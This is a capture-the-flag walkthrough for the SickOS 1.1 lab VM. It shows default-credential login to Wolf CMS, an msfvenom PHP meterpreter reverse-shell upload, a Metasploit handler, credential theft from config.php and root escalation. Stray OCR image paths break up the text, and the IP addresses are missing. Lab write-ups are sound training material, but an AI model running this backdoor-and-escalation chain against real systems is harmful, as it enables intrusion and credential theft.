CTF Challenges

Hack the SickOS 1.1 VM (CTF Challenge)

This time we are going to crack SickOS 1.1 in the Boot2root challenges. This CTF gives a clear analogy of how hacking strategies can be performed on a network to compromise it in a safe environment. The objective being to compromise the network/machine and gain Administrative/root privileges on them.

Breaching Methodology:

  • Network Scanning (Netdiscover, Nmap)
  • Configure browser proxy
  • Use robot.txt
  • Search Wolf CMS admin login page & default credential (Google)
  • Enter into the admin console
  • Generate PHP Backdoor (Msfvenom)• Upload and execute a backdoor
  • Reverse connection (Metasploit)
  • Steal password from inside config.php
  • Get into the shell for privilege escalation
  • Import python one-liner for proper TTY shell
  • Open etc/passwd
  • Switch user (su) and submit the stolen password
  • Take root access

We will start off by finding the target.


Our target IP is Now we scan the IP by Nmap.

nmap -p- -A

If you had have observed during nmap that there wassomething about proxy on 3128. So we will try and set up a manual proxy. Give the IP of the VM in the HTTP Proxy and the port 3128

Generally, there are always some chances of getting robots.txt file inside the web directory, therefore, while penetrating any system we should always check for the robots.txt file. Here also it works and it tells us something about /wolfcms that means this website is made in Wolf CMS or there is a directory with the name of /wolfcms

Then open it in the browser as the link: and the page will open as below indicating that it has been made in Wolf CMS.

I don’t know much about Wolf CMS so I searched Google to know where admin page resides. As I found the login page through Google, I opened it. And it was asking me for username and password. By default, the username and password is admin and admin respectively and I logged into the admin console, after that, select files tab and then select upload files option.

Here, we need to upload the malicious file and to generate it open your terminal in kali and type:msfvenom -p php/meterpreter/reverse_tcp lhost= lport=4444 –f raw

On the other hand run multi/handler inside Metasploit framework.

Copy the code from <?php to die(); and paste it to a text file with the extension .php. Upload the said file.

As we can see, the PHP backdoor has been uploaded inside /public directory.

So now we need to execute shell.php file for getting the reverse connection on Metasploit.

Meanwhile, return to the Metasploit terminal and wait for the meterpreter session by exploiting multi handler.

msf use exploit/multi/handler
msf exploit(multi/handler) set payload php/meterpreter/reverse_tcp
msf exploit(multi/handler) set lhost
msf exploit(multi/handler) set lport 4444
msf exploit(multi/handler) exploit

From given below image you can observe meterpreter session 1, now start penetrating for accessing root privilege. We have access /var/www/wolfcms where we found the config.php file. So when had opened config.php file it has shown DB username and password.Then to access proper TTY shell we had import python one line script by typing following:

python -c 'import pty;pty.spawn("/bin/bash")'

Moving further read the password file and to do so type:

cat etc/password

Observe all the user details it gives us and you will find that user sickos have the value of 1000:1000 that means that this is the first user. So, we might find odour here as it is the first user. Therefore, switch the user to sickos with the password john@123 that we found.

su sickos
sudo -s

Furthermore, we need to go into /root to look for the flag so for that run the set of following commands:

cd /root

Here, you will find a text find. Let’s read it.

HUUURRRRAYYY!!! We havesuccessfully completed this challenge.

AuthorYashika Dhir is a passionateResearcher and Technical Writer at Hacking Articles. She is a hacking enthusiast. contact here